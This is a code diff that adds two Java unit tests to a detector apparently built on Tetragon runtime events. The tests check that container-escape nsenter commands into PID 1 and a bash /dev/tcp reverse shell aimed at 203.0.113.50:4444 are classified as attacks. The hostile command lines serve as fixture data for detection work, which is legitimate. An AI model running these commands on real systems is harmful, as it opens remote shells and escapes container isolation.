@@ -120,4 +120,56 @@ class TetragonSignalsTest {
     }
     assertThat(rules.classify(execs.get(2))).as("the instance id is no credential").isNull();
   }
+
+  /**
+   * nsenter into PID 1's namespaces from a container is privilege escalation (CrioKubeadmScenarioIT's privileged pod);
+   * nsenter into another process's network namespace is not.
+   */
+  @Test
+  void nsenterIntoTheHostsNamespacesFromAContainerIsPrivilegeEscalation(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
+      throws Exception {
+    String template = java.nio.file.Files.readAllLines(SigmaFixtures.runtimeFixtures().resolveSibling("tetragon_signals")
+        .resolve("tetragon/events.json")).stream().filter(l -> !l.isBlank()).reduce((a, b) -> b).orElseThrow();
+    String args = "\"arguments\":\"/srv/app/sync.py\"";
+    String binary = "\"binary\":\"/usr/bin/python3\"";
+    List<String> lines = List.of(
+        template.replace(binary, "\"binary\":\"/usr/bin/nsenter\"").replace(args, "\"arguments\":\"-t 1 -m -u -i -n -p -- bash\""),
+        template.replace(binary, "\"binary\":\"/usr/bin/nsenter\"").replace(args, "\"arguments\":\"--target=1 --mount -- sh\""),
+        template.replace(binary, "\"binary\":\"/usr/bin/nsenter\"").replace(args, "\"arguments\":\"-t 4410 -n ip addr\""));
+    java.nio.file.Path f = dir.resolve("var/run/cilium/tetragon/tetragon.log");
+    java.nio.file.Files.createDirectories(f.getParent());
+    java.nio.file.Files.writeString(f, String.join("\n", lines) + "\n");
+    List<EvidenceEvent> execs = SigmaFixtures.parse(dir);
+    assertThat(execs).hasSize(3);
+    SignalRules rules = SignalRules.defaults();
+    for (int i = 0; i < 2; i++) {
+      Signal s = rules.classify(execs.get(i));
+      assertThat(s.reason()).as(execs.get(i).getProcess().getCmdLine()).isEqualTo("tetragon_nsenter_host");
+      assertThat(s.stage()).isEqualTo(dev.strata.schema.correlate.AttackStage.PRIVILEGE_ESCALATION);
+      assertThat(s.severityId()).isEqualTo(4);
+    }
+    assertThat(rules.classify(execs.get(2))).as("another process's network namespace").isNull();
+  }
+
+  /** bash's /dev/tcp redirection is a reverse shell (CrioKubeadmScenarioIT's notebook); a plain bash -c is not. */
+  @Test
+  void aShellRedirectedToASocketIsAReverseShell(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
+    String template = java.nio.file.Files.readAllLines(SigmaFixtures.runtimeFixtures().resolveSibling("tetragon_signals")
+        .resolve("tetragon/events.json")).stream().filter(l -> !l.isBlank()).reduce((a, b) -> b).orElseThrow();
+    String args = "\"arguments\":\"/srv/app/sync.py\"";
+    String binary = "\"binary\":\"/usr/bin/python3\"";
+    List<String> lines = List.of(
+        template.replace(binary, "\"binary\":\"/bin/bash\"").replace(args,
+            "\"arguments\":\"-c \\\"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\\\"\""),
+        template.replace(binary, "\"binary\":\"/bin/bash\"").replace(args, "\"arguments\":\"-c \\\"ls /tmp\\\"\""));
+    java.nio.file.Path f = dir.resolve("var/run/cilium/tetragon/tetragon.log");
+    java.nio.file.Files.createDirectories(f.getParent());
+    java.nio.file.Files.writeString(f, String.join("\n", lines) + "\n");
+    List<EvidenceEvent> execs = SigmaFixtures.parse(dir);
+    assertThat(execs).hasSize(2);
+    Signal s = SignalRules.defaults().classify(execs.get(0));
+    assertThat(s.reason()).isEqualTo("tetragon_reverse_shell");
+    assertThat(s.stage()).isEqualTo(dev.strata.schema.correlate.AttackStage.EXECUTION);
+    assertThat(SignalRules.defaults().classify(execs.get(1))).isNull();
+  }
 }
